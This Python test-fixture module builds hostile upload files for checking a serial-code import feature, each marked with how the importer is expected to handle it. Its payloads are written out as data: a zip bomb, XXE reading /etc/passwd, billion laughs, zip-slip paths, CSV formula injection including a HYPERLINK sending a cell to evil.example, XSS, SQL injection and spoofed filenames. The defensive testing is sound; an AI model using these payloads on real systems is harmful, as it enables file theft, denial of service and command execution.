"""Files that somebody could hand to staff, or staff could pick by mistake, to be loaded as codes.

They are for a product whose codes have the shape EXA#############. `FILES` has a function for
each, so that the large ones are made only where they are used. Nothing but the standard library
makes them, so that no writer can be too kind.
"""

import io
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from functools import cache
from pathlib import Path

CODES = [f"EXA20241100{number:05}" for number in range(7919, 7969)]
CSV = "SN code\n" + "".join(f"{code}\n" for code in CODES)
MEGABYTE = 1024 * 1024
# Where files that name a path of their own would end up.
OUTSIDE = Path(tempfile.gettempdir()) / "recall-check-was-here"


class Must(Enum):
    """It says what must become of a file. In no case is anything live, and no error page is
    shown."""

    REFUSE = "It is refused whole with a sentence that says why; no row of it is stored."
    REFUSE_ROWS = "Its rows are refused one by one, with their numbers; no code is made of them."
    DO_NO_HARM = "It is read or refused; nothing is written elsewhere, and memory stays small."
    READ = "Its codes are read like those of any file; its name is kept and shown as plain text."


@dataclass(frozen=True)
class HostileFile:
    """`name` as the browser sends it."""

    name: str
    content: bytes
    must: Must


FILES: list[Callable[[], HostileFile]] = []


def hostile(function: Callable[[], HostileFile]) -> Callable[[], HostileFile]:
    FILES.append(function)
    return function


# Workbooks --------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
PARTS = {
    "[Content_Types].xml": f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
    f'.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{_TYPES}.sheet.main'
    f'+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_TYPES}.worksheet+xml"/>'
    "</Types>",
    "_rels/.rels": f'{HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship Id="rId1" '
    f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="Codes" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{_RELATIONS}"><Relationship '
    f'Id="rId1" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}
SHEET = "xl/worksheets/sheet1.xml"


def text_cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


def rows(cells: list[str]) -> str:
    return "".join(f"<row>{cell}</row>" for cell in cells)


def sheet(data: str, doctype: str = "", before: str = "") -> str:
    return (
        f'{HEAD}{doctype}<worksheet xmlns="{MAIN}">{before}'
        f"<sheetData>{data}</sheetData></worksheet>"
    )


def workbook(sheet_xml: str, more: dict[str, bytes] | None = None) -> bytes:
    """An XLSX file with one sheet, and whatever else it is made to hold."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**PARTS, SHEET: sheet_xml, **(more or {})}.items():
            archive.writestr(name, text)
    return file.getvalue()


def plain_workbook() -> bytes:
    """A good one, to be spoiled; alone it must be read."""
    return workbook(sheet(rows([text_cell(text) for text in ["SN code", *CODES]])))


def refused(content: bytes, name: str = "codes.xlsx") -> HostileFile:
    return HostileFile(name, content, Must.REFUSE)


@hostile
@cache
def workbook_of_300_megabytes() -> HostileFile:
    """Some 300 kilobytes as sent."""
    file = io.BytesIO()
    start, end = sheet("|").split("|")
    row = f"<row>{text_cell(CODES[0])}</row>".encode()
    chunk = row * (MEGABYTE // len(row) + 1)
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, text in PARTS.items():
            archive.writestr(name, text)
        with archive.open(SHEET, "w", force_zip64=True) as part:
            part.write(start.encode())
            for _ in range(300):
                part.write(chunk)
            part.write(end.encode())
    return refused(file.getvalue())


@hostile
def workbook_that_understates_its_size() -> HostileFile:
    """The directory says 1,000 bytes for a sheet of 50 megabytes."""
    content = bytearray(workbook(sheet(rows([text_cell(CODES[0])] * 1_000_000))))
    place = content.rindex(b"PK\x01\x02")  # the sheet is the last entry
    assert content[place + 46 :].startswith(SHEET.encode())
    content[place + 24 : place + 28] = (1000).to_bytes(4, "little")
    return refused(bytes(content))


@hostile
def workbook_with_an_external_entity() -> HostileFile:
    doctype = '<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return refused(workbook(sheet(rows([text_cell("SN code"), text_cell("&e;")]), doctype)))


@hostile
def workbook_of_a_billion_laughs() -> HostileFile:
    entities = '<!ENTITY l0 "EXA2024110007919">' + "".join(
        f'<!ENTITY l{depth} "{f"&l{depth - 1};" * 10}">' for depth in range(1, 10)
    )
    doctype = f"<!DOCTYPE worksheet [{entities}]>"
    return refused(workbook(sheet(rows([text_cell("SN code"), text_cell("&l9;")]), doctype)))


@hostile
def workbook_with_paths_upwards() -> HostileFile:
    upwards = {f"{'../' * depth}{str(OUTSIDE)[1:]}": b"out" for depth in range(1, 10)}
    absolute = {str(OUTSIDE): b"out"}
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return HostileFile("codes.xlsx", workbook(data, upwards | absolute), Must.DO_NO_HARM)


@hostile
def workbook_of_10_000_entries() -> HostileFile:
    data = sheet(rows([text_cell(text) for text in ["SN code", *CODES]]))
    return refused(workbook(data, {f"xl/media/{number}.png": b"" for number in range(10_000)}))


@hostile
def workbook_with_encrypted_entries() -> HostileFile:
    """The flag of encryption is set; what it is about is not known without a password."""
    content = bytearray(plain_workbook())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return refused(bytes(content))


@hostile
def workbook_with_a_password() -> HostileFile:
    """As Excel saves one: a compound file, which old .xls files are too."""
    return refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))


@hostile
def workbook_cut_off() -> HostileFile:
    content = plain_workbook()
    return refused(content[: len(content) // 2])


@hostile
def workbook_that_claims_all_cells() -> HostileFile:
    """Readers that make room for what it claims need hundreds of gigabytes."""
    claim = '<dimension ref="A1:XFD1048576"/>'
    far = f'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>{CODES[0]}</t></is></c></row>'
    content = workbook(sheet(rows([text_cell("SN code")]) + far, before=claim))
    return HostileFile("codes.xlsx", content, Must.DO_NO_HARM)


@hostile
def workbook_of_rounded_numbers() -> HostileFile:
    """Codes kept as numbers: of the last characters of each nothing is left."""
    cells = [f"<c><v>{number}</v></c>" for number in ("5.7123456789012346E+17", "1E+16", "1.5")]
    content = workbook(sheet(rows([text_cell("SN code"), *cells])))
    return HostileFile("codes.xlsx", content, Must.REFUSE_ROWS)


@hostile
def workbook_of_formulas() -> HostileFile:
    """A formula without the value that it had, and one that failed."""
    cells = [
        "<c><f>HYPERLINK(&quot;https://evil.example&quot;)</f></c>",
        '<c t="e"><v>#REF!</v></c>',
    ]
    content = workbook(sheet(rows([text_cell("SN code"), *cells])))
    return HostileFile("codes.xlsx", content, Must.REFUSE_ROWS)


@hostile
def text_named_workbook() -> HostileFile:
    return refused(CSV.encode())


# Other files under a wrong name -----------------------------------------------------------------


def csv_file(content: bytes, must: Must = Must.REFUSE, name: str = "codes.csv") -> HostileFile:
    return HostileFile(name, content, must)


@hostile
def picture_named_csv() -> HostileFile:
    start = (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    )
    return csv_file(start + bytes(range(256)) * 8)


@hostile
def workbook_named_csv() -> HostileFile:
    return csv_file(plain_workbook())


@hostile
def page_named_csv() -> HostileFile:
    """Return what a browser saves where a sign-in had run out."""
    page = "<!DOCTYPE html><title>Sign in</title><script>alert(1)</script><p>Sign in to go on.</p>"
    return csv_file(page.encode())


@hostile
def program_named_csv() -> HostileFile:
    return csv_file(b"\x7fELF\x02\x01\x01" + bytes(64) + CSV.encode())


# Text -------------------------------------------------------------------------------------------


@hostile
def nul_bytes() -> HostileFile:
    return csv_file(CSV.replace("2024", "2024\0").encode())


@hostile
def one_line_of_30_megabytes() -> HostileFile:
    return csv_file(b"SN code\n" + b"A1" * (15 * MEGABYTE))


@hostile
def a_quote_that_never_ends() -> HostileFile:
    """All that follows is one cell: codes in it would be lost in silence."""
    return csv_file(f'SN code\n{CODES[0]}\n"{CSV * 1000}'.encode())


@hostile
def formulas() -> HostileFile:
    cells = [
        '=HYPERLINK("https://evil.example?"&A1,"code")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "|calc",
    ]
    quoted = "".join('"' + cell.replace('"', '""') + '"\n' for cell in cells)
    return csv_file(f"SN code\n{quoted}".encode(), Must.REFUSE_ROWS)


@hostile
def markup() -> HostileFile:
    cells = ["<script>alert(1)</script>", "'; DROP TABLE recalls_affectedcode; --", "{{ 7|add:7 }}"]
    return csv_file("".join(f"{cell}\n" for cell in ["SN code", *cells]).encode(), Must.REFUSE_ROWS)


@hostile
def utf_16_without_a_mark() -> HostileFile:
    return csv_file(CSV.encode("utf-16-le"))


@hostile
def utf_7() -> HostileFile:
    """Every byte is ASCII; read as that, its letters turn into others."""
    return csv_file(b"SN code\n+AEUAWABB-2024110007919\n+ADw-script+AD4-\n", Must.REFUSE_ROWS)


@hostile
def latin_1() -> HostileFile:
    return csv_file("Numéro de série\n23é2100000000000\n".encode("latin-1"))


@hostile
def ebcdic() -> HostileFile:
    return csv_file(CSV.encode("cp500"))


@hostile
def signs_of_other_scripts() -> HostileFile:
    """A letter that no look-alike stands for, and one with an accent."""
    return csv_file("SN code\nEXÄ2024110007919\nEXAЖ2024110007919\n".encode(), Must.REFUSE_ROWS)


@hostile
def nothing() -> HostileFile:
    return csv_file(b"")


@hostile
def only_a_mark_of_order() -> HostileFile:
    return csv_file(b"\xef\xbb\xbf")


@hostile
def only_a_header() -> HostileFile:
    return csv_file(b"SN code\n")


@hostile
def only_blank_lines() -> HostileFile:
    return csv_file(b"\r\n" * 10_000)


@hostile
def a_thousand_columns() -> HostileFile:
    return csv_file("".join(",".join([code] * 1000) + "\n" for code in CODES).encode())


# Names ------------------------------------------------------------------------------------------

NAMES = {
    "path": "../../../../etc/cron.d/codes.csv",
    "windows path": "C:\\Windows\\System32\\codes.csv",
    "nul": "codes.csv\0.exe",
    "right to left": "codes\u202evsc.exe.csv",
    "300 characters": "c" * 296 + ".csv",
    "formula": "=HYPERLINK(A1)&.csv",
    "markup": "<img src=x onerror=alert(1)>.csv",
    "line break": "codes\r\nX-Header: 1\r\n.csv",
    "none": "",
}


def names() -> Iterator[HostileFile]:
    """A good file under each bad name. A browser cuts paths off; nothing else has to."""
    for name in NAMES.values():
        yield HostileFile(name, CSV.encode(), Must.READ)
